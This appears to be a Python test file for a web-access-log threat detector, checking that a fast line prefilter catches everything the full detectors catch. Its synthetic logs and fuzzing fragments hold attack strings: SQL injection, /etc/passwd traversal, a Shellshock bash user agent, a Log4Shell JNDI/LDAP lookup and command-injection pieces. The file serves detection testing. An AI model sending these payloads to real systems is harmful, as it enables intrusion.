"""The access-log fast path hides nothing: a line it does not pick raises no signal when parsed anyway."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from hypothesis import given, settings, strategies as st

from bastion.logs import sources
from bastion.logs.decode import normalize
from bastion.logs.formats import access as access_format
from bastion.logs.prefilter import LinePicker
from bastion.logs.run import Session, log_options
from bastion.logs.signals import payloads

from tests.logs.support import BROWSER, access, write
from tests.logs.test_signals import ATTACKS, BENIGN

ROOT = Path(__file__).parents[2]
EXTRA_PAYLOADS = ROOT / "benchmarks" / "logs" / "extra_payloads.txt"
SCANNER_LOGS = ROOT / "benchmarks" / "logs" / "scanners"
FIXTURE = Path(__file__).parent / "fixtures" / "access.log"


def _every_line(_picker, chunk: bytes) -> list[tuple[int, bool]]:
    """Every line, every detector: what the fast path must agree with."""
    return [(0, True)] + [(i + 1, True) for i, byte in enumerate(chunk) if byte == 10 and i + 1 < len(chunk)]


def _signals(path: str) -> list[tuple]:
    found = []
    session = Session(log_options.parse({}), on_signal=lambda s: found.append((s.rule, s.client, s.line, s.sample, s.detail)))
    session.read(sources.Source(path, Path(path)))
    return found


def _mixed_log() -> list[str]:
    """Attacks of every family (plain, encoded, twice encoded), everyday requests, scanners, logins, errors."""
    targets = [t for t, _ in ATTACKS] + BENIGN
    for raw in EXTRA_PAYLOADS.read_text("utf-8").splitlines():
        if raw.strip() and not raw.startswith("#"):
            payload = raw.split("\t", 1)[1]
            targets += [f"/p?q={v}" for v in (payload.replace(" ", "%20"), quote(payload, safe=""),
                                               quote(quote(payload, safe=""), safe=""))]
    targets += ["/item?id=1 ;SELECT PG_SLEEP(5)--", "/item?id=1 ' AND 1=1",  # raw spaces, as nginx logs them
                "/item?id='", "/item?id=%5Cx27%5Cx4F%5Cx52%20SELECT%20*", "/q?v=%3C%3E%22'%25%3B)(%26%2B", "/etc/passwd",
                "/download?file=windows/win.ini", "/wp-login.php", "/.env", "/login?token=abc", "/u?email=a@b.example"]
    lines = [access(f"203.0.113.{i % 50}", t, status=(200, 404, 500, 403, 429)[i % 5], at=i) for i, t in enumerate(targets)]
    lines += [access("203.0.113.60", t, status=404, agent=agent, at=800 + i) for i, (t, agent) in enumerate(
        [("/gone", "{{7*7}}"), ("/gone2", "() { :; }; /bin/bash -c id"), ("/a@b.example", BROWSER), ("/x?token=abc", BROWSER),
         ("/y", "Nikto/2.5.0"), ("/.git/config", BROWSER), ("/z", BROWSER), ("/w", "X-Auth-Token: 0f3c9a7be21d4c58a6e0")])]
    lines += [access("198.51.100.7", "/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)", at=900),
              access("198.51.100.8", "/login", method="POST", status=401, at=901),
              access("198.51.100.9", "/", agent="${jndi:ldap://203.0.113.9/a}", at=902)]
    lines += [text for text in FIXTURE.read_text("utf-8").splitlines() if text and not text.startswith("#")]
    return lines


def test_fast_path_finds_what_parsing_every_line_finds(tmp_path, monkeypatch):
    path = write(tmp_path, "access.log", _mixed_log())
    picked = _signals(path)
    monkeypatch.setattr(LinePicker, "picks", _every_line)
    assert picked == _signals(path)
    assert {rule for rule, *_ in picked} >= set(payloads.families().owner)


def _real_sample() -> list[str]:
    """Real scanner runs (sqlmap and wfuzz against the benchmark's app, as its web server logged them), from a
    public address, between a shop's requests: pages, missing thumbnails asked by the page (with a Referer),
    the same missing files asked directly, 5xx, logins."""
    lines = []
    for index, log in enumerate(sorted(SCANNER_LOGS.glob("*.log"))):
        lines += [text.replace("127.0.0.1 ", f"198.51.100.{10 + index} ", 1) for text in log.read_text("utf-8").splitlines()]
    page = "https://shop.example/p/1"
    shop = []
    for i in range(60):
        shop += [access("203.0.113.70", f"/static/thumbs/{i}.jpg", status=404, referer=page, at=i),
                 access("203.0.113.71", f"/static/thumbs/{i}.jpg", status=404, at=i),  # no referer: counted as probing
                 access("203.0.113.72", f"/static/thumbs/{i}.JPG?v=%31", status=404, referer=page, at=i),
                 access("203.0.113.73", f"/assets/{i}.css", status=(403, 410, 429, 500)[i % 4], referer=page, at=i),
                 access("203.0.113.74", "/login", method="POST", status=401, at=i)]
    return [line for pair in zip(lines, shop) for line in pair] + lines[len(shop):]


def test_fast_path_finds_what_parsing_every_line_finds_in_real_scanner_runs(tmp_path, monkeypatch):
    path = write(tmp_path, "access.log", _real_sample())
    picked = _signals(path)
    monkeypatch.setattr(LinePicker, "picks", _every_line)
    assert picked == _signals(path)
    assert {"log-sql-injection", "log-scanner", "log-probing", "log-brute-force", "log-rate-limited"} <= {r for r, *_ in picked}


_PIECES = ["'", "%27", "%2527", '"', "%22", " ", "+", "%20", "/**/", "or", "and", "1=1", "1", "select", "from", "union",
           "all", "(", ")", "%28", "sleep", "--", "#", "%23", ";", "..", "/", "\\", "%5C", "x27", "etc", "passwd", "win.ini",
           "<", ">", "script", "alert", "onerror=", "${", "}", "jndi:", "ldap:", "http://", "127.0.0.1", "&&", "|", "ls", "id",
           "cat", "$(", "`", "{{", "}}", "7*7", "@", "@@version", "document.cookie", "javascript:", "&#39;", "&#x27;",
           "%0a", "waitfor delay '0:0:5'", "information_schema", "benchmark", "char", "0x41", "case when", "then", "=", "&",
           "%00", ".php", "ping -n 3 ", "10.0.0.1", "<?php", "system(", "onfocus=", " autofocus ", "data:;base64,pd9w",
           "o:4:\"x\":1:{", "%0d%0a"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), min_size=1, max_size=8))
def test_every_line_with_a_payload_signal_is_picked(pieces):
    value = "".join(pieces).replace('"', "%22")  # raw spaces too: nginx logs them as sent
    line = access("203.0.113.5", f"/p?q={value}").encode()
    record = access_format.parse_line(access_format.BUILTIN.compiled(), line, "t", 1)
    if payloads.detect(normalize(record.target)):
        assert LinePicker().picks(line) == [(0, True)], line
